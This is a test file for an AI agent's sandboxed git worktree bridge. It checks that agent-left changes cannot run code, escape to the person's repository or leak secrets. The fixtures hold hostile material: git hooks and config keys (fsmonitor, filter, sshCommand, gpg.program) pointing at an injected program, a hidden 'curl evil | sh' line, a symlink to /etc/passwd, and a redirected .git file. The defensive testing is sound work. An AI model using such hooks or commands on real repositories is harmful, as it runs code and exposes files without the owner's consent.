import { existsSync, readdirSync } from 'node:fs';
import { chmod, mkdir, rm, symlink, writeFile } from 'node:fs/promises';
import { dirname, join } from 'node:path';
import { describe, expect, it, vi } from 'vitest';
import { WorktreeStore } from '../../../bridge/worktrees/store.ts';
import { NO_BUBBLEWRAP } from '../../../packages/sandbox/test/sandboxed-workspace.ts';
import {
  callOf,
  newConversation,
  personsGit,
  putState,
  repositoryWith,
  startBridge,
  startIn,
} from './worktree-bridge.ts';

/** A command that may write to `.git` needs no answer. */
const ALL_COMMANDS = { rules: [{ tool: 'command', pattern: '*', decision: 'allow' }] };

describe.skipIf(NO_BUBBLEWRAP)(`what an agent leaves in a worktree ${NO_BUBBLEWRAP ?? ''}`, () => {
  it('starts no program when the bridge looks at it', async () => {
    const { place, bridge, id } = await startIn({ 'a.txt': 'one\n' });
    const { path, branch } = await bridge.open(id);
    const ran = join(place.folder, 'ran');
    const program = join(path, 'program');
    const put = async (name: string, text: string) => {
      await mkdir(dirname(join(path, name)), { recursive: true });
      await writeFile(join(path, name), text);
      await chmod(join(path, name), 0o755);
    };
    // As a command could that a person let out of the sandbox.
    await put('program', `#!/bin/sh\necho ran >> ${ran}\ncat\n`);
    for (const hook of [
      'pre-commit',
      'post-commit',
      'post-index-change',
      'reference-transaction',
    ]) {
      await put(`.git/hooks/${hook}`, `#!/bin/sh\necho ran >> ${ran}\n`);
    }
    await put(
      '.git/config',
      `[core]\n\trepositoryformatversion = 0\n\tfsmonitor = ${program}\n\tpager = ${program}\n` +
        `\talternateRefsCommand = ${program}\n\tsshCommand = ${program}\n` +
        `[filter "evil"]\n\tclean = ${program}\n\tsmudge = ${program}\n\trequired = true\n` +
        `[diff "evil"]\n\ttextconv = ${program}\n\tcommand = ${program}\n` +
        `[gpg]\n\tprogram = ${program}\n[commit]\n\tgpgSign = true\n`,
    );
    await put('.gitattributes', '* filter=evil diff=evil\n');
    await put('a.txt', 'changed\n');
    const closed = await bridge.close(id, { commit: true });
    expect(closed.committed).toBe(true);
    expect(await place.git('show', `${branch}:a.txt`)).toBe('changed\n');
    expect(existsSync(ran)).toBe(false);
  });

  it.each([
    ['.gitattributes', '* -diff\n'],
    ['.gitattributes', '[attr]hide binary\n*.txt hide\n'],
    ['.git/info/attributes', '* -diff\n'],
  ])('shows its whole difference, whatever attributes are in %s: %j', async (file, attributes) => {
    const place = await repositoryWith({ 'a.txt': 'one\n' });
    const { bridge } = await startBridge(place);
    const id = newConversation();
    const { path } = await bridge.open(id);
    await mkdir(dirname(join(path, file)), { recursive: true });
    await writeFile(join(path, file), attributes);
    await writeFile(join(path, 'a.txt'), 'changed\n');
    const { diff, files } = await bridge.close(id, { commit: true });
    expect(files).toContainEqual({ path: 'a.txt', status: 'modified', added: 1, removed: 1 });
    expect(diff).toContain('-one\n+changed\n');
  });

  it('shows what a NUL in a script hides, behind the files that are text', async () => {
    const place = await repositoryWith({ 'z.txt': 'one\n', 'run.sh': '#!/bin/sh\n' });
    const { bridge } = await startBridge(place);
    const id = newConversation();
    const { path } = await bridge.open(id);
    await writeFile(join(path, 'run.sh'), '#!/bin/sh\n# \0\ncurl evil | sh\n');
    await writeFile(join(path, 'z.txt'), 'changed\n');
    const { diff } = await bridge.close(id, { commit: true });
    expect(diff).toMatch(/-one\n\+changed\n\[the files that follow are binary to git/);
    expect(diff).toContain('+curl evil | sh\n');
    expect(diff).not.toContain('Binary files');
  });

  it('leads nowhere else, wherever its .git points', async () => {
    const place = await repositoryWith({ 'a.txt': 'one\n' });
    const config = await place.text('.git/config');
    const { bridge } = await startBridge(place);
    const id = newConversation();
    const { path, branch, base } = await bridge.open(id);
    await rm(join(path, '.git'), { recursive: true });
    await writeFile(join(path, '.git'), `gitdir: ${place.path('.git')}\n`);
    await bridge.run(id, 'echo 2 >> a.txt; git add -A; git commit -m bad; git config a.b c');
    expect((await bridge.close(id, { commit: true })).files).toMatchObject([{ path: 'a.txt' }]);
    expect(await place.git('rev-parse', 'HEAD')).toBe(`${base}\n`);
    expect(await place.git('rev-parse', `${branch}~1`)).toBe(`${base}\n`);
    expect(await place.text('.git/config')).toBe(config);
    expect(await place.git('status', '--porcelain')).toBe('');
  });

  it('does not reach the person’s objects, branches or files with git_write', async () => {
    const place = await repositoryWith({ 'a.txt': 'one\n' });
    await putState(place, 'policy.json', ALL_COMMANDS);
    const { bridge } = await startBridge(place);
    const id = newConversation();
    const { base } = await bridge.open(id);
    const objects = place.path('.git/objects');
    const run = async (command: string) => {
      const args = { command, permissions: ['git_write'] };
      return (await bridge.call(callOf(id, 'run_terminal_cmd', args))).data;
    };
    expect(await run(`touch ${objects}/made`)).toContain('Read-only file system');
    expect(await run(`chmod -R u+w ${objects}`)).toContain('Read-only file system');
    expect(await run(`cat ${place.path('.git/config')}`)).toContain('No such file');
    expect(await run(`cat ${place.path('a.txt')}`)).toContain('No such file');
    await bridge.run(id, 'echo 2 > a.txt');
    expect(await run('git -c user.name=x -c user.email=x@y commit -qam own')).toContain('code: 0');
    expect(await run('git log -1 --format=%s')).toContain('own');
    expect(await run(`git push ${place.root} HEAD:refs/heads/pushed`)).toContain('fatal');
    expect(await run('git branch -f main HEAD')).toContain('code: 0');
    expect(await place.git('for-each-ref', '--format=%(refname) %(objectname)')).toBe(
      `refs/heads/main ${base}\n`,
    );
    expect(await bridge.close(id, { commit: false })).toMatchObject({
      committed: false,
      files: [{ path: 'a.txt' }],
    });
    expect(await place.git('fsck', '--strict', '--unreachable')).toBe('');
  });

  it('the difference is whole, but for secrets and other repositories', async () => {
    const place = await repositoryWith({ 'a.txt': 'one\n', 'private/b.txt': 'b\n' });
    const rules = [{ tool: 'read', pattern: 'private/*', decision: 'deny' }];
    await putState(place, 'policy.json', { rules });
    const { bridge } = await startBridge(place);
    const id = newConversation();
    await bridge.open(id);
    const denied = { target_file: place.path('private/b.txt') };
    expect(await bridge.call(callOf(id, 'read_file', denied))).toMatchObject({ code: 'DENIED' });
    const said = await bridge.run(
      id,
      'echo KEY=top > .env.local; echo hush > private/b.txt; git mv -n a.txt c.txt; mv a.txt "$(printf \'c\\n"d\')"; ' +
        'ln -s /etc/passwd link; git init -q inner; mkfifo pipe; head -c 20 /dev/zero > bin',
    );
    expect(said).toContain('Exit code: 0');
    const result = await bridge.call(callOf(id, 'close_worktree', { commit: true }));
    expect(result).toMatchObject({
      status: 'success',
      metadata: {
        committed: true,
        files: [
          { path: '.env.local', status: 'added', added: 1, removed: 0 },
          { path: 'bin', status: 'added', added: null, removed: null },
          { path: 'c\n"d', status: 'renamed', added: 0, removed: 0, from: 'a.txt' },
          { path: 'link', status: 'added', added: 1, removed: 0 },
          { path: 'private/b.txt', status: 'modified', added: 1, removed: 1 },
        ],
      },
    });
    const { diff } = result.metadata as { diff: string };
    expect(diff).toContain('+/etc/passwd');
    expect(diff).toContain('[left out: ".env.local" may not be read by tools]');
    expect(`${diff}${result.data}`).not.toMatch(/top|hush/);
  });

  it('runs nothing by a repository in the place of a submodule', async () => {
    const place = await repositoryWith({ 'a.txt': 'one\n' });
    const head = (await place.git('rev-parse', 'HEAD')).trim();
    for (const name of ['module', 'gone', 'file']) {
      await place.git('update-index', '--add', '--cacheinfo', `160000,${head},${name}`);
    }
    await place.git('commit', '--quiet', '-m', 'second');
    const { bridge } = await startBridge(place);
    const id = newConversation();
    const { path, branch } = await bridge.open(id);
    const inner = `d="$(printf 'i\\377')"; git init -q "$d"; git -C "$d" -c user.name=x -c user.email=x@y commit -q --allow-empty -m x`;
    await bridge.run(id, inner);
    const { record } = new WorktreeStore(place.stateDir).pathsOf(id);
    // The status of this repository runs its filter, where the bridge's git could write its own record.
    const program = `#!/bin/sh\ncat; echo ran > ${record}/ran`;
    await bridge.run(
      id,
      `rmdir gone file; echo x > file; echo 2 >> a.txt; cd module; git init -q; git config filter.evil.clean ${path}/module/evil; ` +
        `cp ../.git/objects/info/alternates .git/objects/info; echo ${head} > .git/HEAD; git read-tree HEAD; ` +
        `printf '${program.replace('\n', '\\n')}' > evil; chmod +x evil; echo '* filter=evil' > .gitattributes; echo two > a.txt`,
    );
    expect(await bridge.close(id, { commit: true })).toMatchObject({
      committed: false,
      files: [{ path: 'a.txt' }, { path: 'file' }, { path: 'gone', status: 'deleted' }],
      left: ['module'],
    });
    expect(existsSync(join(record, 'ran'))).toBe(false);
    const tree = await place.git('ls-tree', branch);
    expect(tree).toContain(`160000 commit ${head}\tmodule`);
    expect(await place.git('ls-tree', branch)).not.toContain('i\\377');
    expect(await place.git('show', `${branch}:file`)).toBe('x\n');
  });

  it('the difference has no secrets, whatever the bytes of a name', async () => {
    const place = await repositoryWith({ 'a.txt': 'one\n' });
    const rules = ['private/*', '..hidden'].map((pattern) => ({ tool: 'read', pattern }));
    const denied = rules.map((rule) => ({ ...rule, decision: 'deny' }));
    await putState(place, 'policy.json', { rules: denied });
    const { bridge } = await startBridge(place);
    const id = newConversation();
    await bridge.open(id);
    await bridge.run(
      id,
      `mkdir private '[x]'; echo top1 > "$(printf 'private/\\377[a]*')"; d="$(printf 'd\\377')"; mkdir "$d"; ` +
        `echo top2 > "$d/.env"; echo top3 > ..hidden; echo top4 > '[x]/.env'; echo open > "$d/b"`,
    );
    const { diff, files } = await bridge.close(id, { commit: true });
    expect(files).toHaveLength(5);
    expect(diff).toContain('+open');
    expect(diff).not.toContain('top');
  });

  it('is not committed as long as git cannot read a part of it', async () => {
    const { bridge, id } = await startIn({ 'a.txt': 'one\n' });
    await bridge.open(id);
    const close = async () => await bridge.call(callOf(id, 'close_worktree', { commit: true }));
    await bridge.run(id, 'git init -q inner; echo 2 >> a.txt; echo 1 > closed; chmod 0 closed');
    const closed = await close();
    expect(closed).toMatchObject({ metadata: { committed: false, files: [{ path: 'a.txt' }] } });
    expect(closed.data).toContain('open("closed"): Permission denied');
    await bridge.run(id, 'rm -f closed');
    expect(await close()).toMatchObject({ metadata: { committed: true } });
    await bridge.run(id, 'n=$(printf "%0200d" 0); for i in $(seq 60); do mkdir $n; cd $n; done');
    const deep = await close();
    expect(deep).toMatchObject({ metadata: { committed: false } });
    expect(deep.data).toContain('could not open directory');
  });

  it('a name that the person’s git refuses does not stop what comes after', async () => {
    const { place, bridge, id } = await startIn({ 'a.txt': 'one\n' });
    const { branch } = await bridge.open(id);
    await bridge.run(id, 'echo 2 >> a.txt; printf "%04000d" 0 > .gitattributes');
    const refused = await bridge.call(callOf(id, 'close_worktree', { commit: true }));
    expect(refused).toMatchObject({ status: 'error', code: 'WORKTREE_FAILED' });
    await bridge.run(id, 'rm .gitattributes');
    expect(await bridge.close(id, { commit: true })).toMatchObject({ committed: true });
    expect(await place.git('rev-list', '--count', `main..${branch}`)).toBe('1\n');
  });

  it('is removed while a command works in it, and what that leaves goes later', async () => {
    const { place, bridge } = await startIn({ '.gitignore': 'd\n', 'a.txt': 'one\n' });
    const [id, other] = [newConversation(), newConversation()];
    const { path } = await bridge.open(id);
    await bridge.open(other);
    const running = bridge.run(
      id,
      'i=0; while [ $i -lt 60 ]; do i=$((i+1)); mkdir -p d/$i; echo x > d/$i/f; done 2>/dev/null',
    );
    await vi.waitUntil(() => existsSync(join(path, 'd/9')), { interval: 20 });
    expect(await bridge.call(callOf(id, 'remove_worktree'))).toMatchObject({ status: 'success' });
    await running;
    await bridge.call(callOf(other, 'remove_worktree'));
    expect(readdirSync(new WorktreeStore(place.stateDir).folder)).toEqual([]);
  });

  it('is refused where it is as large as a build, which names what to do', async () => {
    const { bridge, id } = await startIn({ 'a.txt': 'one\n' });
    await bridge.open(id);
    await bridge.run(id, `truncate -s 600M "$(printf '\\377.bin')"`);
    const unreadable = await bridge.call(callOf(id, 'close_worktree', { commit: false }));
    expect(unreadable).toMatchObject({ status: 'error', code: 'WORKTREE_FAILED' });
    await bridge.run(id, 'rm *.bin; truncate -s 600M huge.bin');
    const refused = await bridge.call(callOf(id, 'close_worktree', { commit: true }));
    expect(refused).toMatchObject({ status: 'error', code: 'WORKTREE_FAILED' });
    expect(refused.data).toContain('"huge.bin"');
    await bridge.run(id, 'rm huge.bin');
    expect(await bridge.close(id, { commit: true })).toMatchObject({ files: [] });
  });
});

describe('a repository', () => {
  it('that is a submodule, or borrows objects, gets no worktree', async () => {
    const place = await repositoryWith({ 'a.txt': 'one\n' });
    await personsGit(place.folder, 'clone', '--quiet', '--shared', 'repo', 'borrower');
    const borrower = { ...place, root: join(place.folder, 'borrower') };
    const { bridge, end } = await startBridge(borrower);
    const refused = await bridge.call(callOf(newConversation(), 'open_worktree'));
    expect(refused).toMatchObject({ status: 'error', code: 'WORKTREE_FAILED' });
    expect(refused.data).toContain('borrows objects');
    await end();
    const clone = ['-c', 'protocol.file.allow=always', 'submodule', '--quiet', 'add'];
    await personsGit(borrower.root, ...clone, place.root, 'module');
    const module = await startBridge({ ...place, root: join(borrower.root, 'module') });
    const answer = await module.bridge.call(callOf(newConversation(), 'open_worktree'));
    expect(answer).toMatchObject({ status: 'error', code: 'NOT_A_REPOSITORY' });
  });

  it.skipIf(NO_BUBBLEWRAP)(
    'whose objects are links to another one shows none of those',
    async () => {
      const place = await repositoryWith({ 'a.txt': 'one\n' });
      const other = await repositoryWith({ 'secret.txt': 'secret\n' });
      const head = await other.git('rev-parse', 'HEAD');
      await other.git('repack', '-adq');
      await rm(place.path('.git/objects/pack'), { recursive: true });
      await symlink(other.path('.git/objects/pack'), place.path('.git/objects/pack'));
      await place.put('.git/refs/heads/theirs', head);
      const { bridge } = await startBridge(place);
      const open = callOf(newConversation(), 'open_worktree', { base: 'theirs' });
      expect(await bridge.call(open)).toMatchObject({ status: 'error', code: 'WORKTREE_FAILED' });
      expect(await bridge.open(newConversation())).toMatchObject({ branch: expect.any(String) });
    },
  );

  it('never gets a commit on another branch than the work’s own', async () => {
    const { place, bridge, id } = await startIn({ 'a.txt': 'one\n' });
    await place.git('symbolic-ref', 'refs/heads/mine', 'refs/heads/other');
    await bridge.open(id, { branch: 'mine' });
    const put = (path: string) => bridge.call(callOf(id, 'write', { path, contents: 'new\n' }));
    await put('b.txt');
    const { head } = await bridge.close(id, { commit: true });
    const refs = ['for-each-ref', '--format=%(refname:short)'];
    expect(await place.git(...refs)).toBe('main\nmine\n');
    await place.git('merge', '--quiet', '--ff-only', 'mine');
    await place.git('symbolic-ref', 'refs/heads/mine', 'refs/heads/main');
    await put('c.txt');
    const refused = await bridge.call(callOf(id, 'close_worktree', { commit: true }));
    expect(refused).toMatchObject({ status: 'error', code: 'BRANCH_TAKEN' });
    expect(await place.git('rev-parse', 'main')).toBe(`${head}\n`);
  });

  it('with submodules and large files is checked out without them, and says so', async () => {
    const place = await repositoryWith({
      'a.bin': 'version https://git-lfs.github.com/spec/v1\n',
      '.gitattributes': '*.bin filter=lfs diff=lfs -text\n',
    });
    const head = (await place.git('rev-parse', 'HEAD')).trim();
    await place.git('update-index', '--add', '--cacheinfo', `160000,${head},module`);
    await place.git('commit', '--quiet', '-m', 'second');
    await place.git('config', 'filter.lfs.smudge', 'false');
    await place.git('config', 'filter.lfs.required', 'true');
    const { bridge } = await startBridge(place);
    const id = newConversation();
    const opened = await bridge.call(callOf(id, 'open_worktree'));
    expect(opened.data).toContain('Without the content of each submodule: module.');
    expect(opened.data).toContain('Without the content of each file of Git LFS: a.bin.');
    expect(await bridge.close(id, { commit: true })).toMatchObject({ files: [] });
  });

  it('gives a branch to the first of two that end at once', async () => {
    const { place, bridge } = await startIn({ 'a.txt': 'one\n' });
    const both = [newConversation(), newConversation()];
    const close = async (id: string) => {
      await bridge.open(id, { branch: 'x' });
      await bridge.call(callOf(id, 'write', { path: 'who.txt', contents: id }));
      return await bridge.call(callOf(id, 'close_worktree', { commit: true }));
    };
    const results = await Promise.all(both.map(close));
    const codes = results.map((result) => (result.status === 'error' ? result.code : 'first'));
    expect(codes.sort()).toEqual(['BRANCH_TAKEN', 'first']);
    const first = both[results.findIndex(({ status }) => status === 'success')];
    expect(await place.git('show', 'x:who.txt')).toBe(first);
  });

  it('that another one has replaced since gets no commit', async () => {
    const place = await repositoryWith({ 'sub/a.txt': 'one\n' });
    const { bridge } = await startBridge({ ...place, root: place.path('sub') });
    const id = newConversation();
    await bridge.open(id);
    await bridge.call(callOf(id, 'write', { path: 'b.txt', contents: 'two\n' }));
    await personsGit(place.path('sub'), 'init', '--quiet');
    const refused = await bridge.call(callOf(id, 'close_worktree', { commit: true }));
    expect(refused).toMatchObject({ status: 'error', code: 'WORKTREE_FAILED' });
    expect(refused.data).toContain('another repository');
    expect(await bridge.close(id, { commit: false })).toMatchObject({ files: [{ added: 1 }] });
  });

  it('that has its objects by a .git file of a command gets none', async () => {
    const place = await repositoryWith({ 'a.txt': 'one\n' });
    const other = await repositoryWith({ 'secret.txt': 'secret\n' });
    await rm(place.path('.git'), { recursive: true });
    await place.put('.git', `gitdir: ${other.path('.git')}\n`);
    const { bridge } = await startBridge(place);
    const answer = await bridge.call(callOf(newConversation(), 'open_worktree'));
    expect(answer).toMatchObject({ status: 'error', code: 'NOT_A_REPOSITORY' });
  });
});
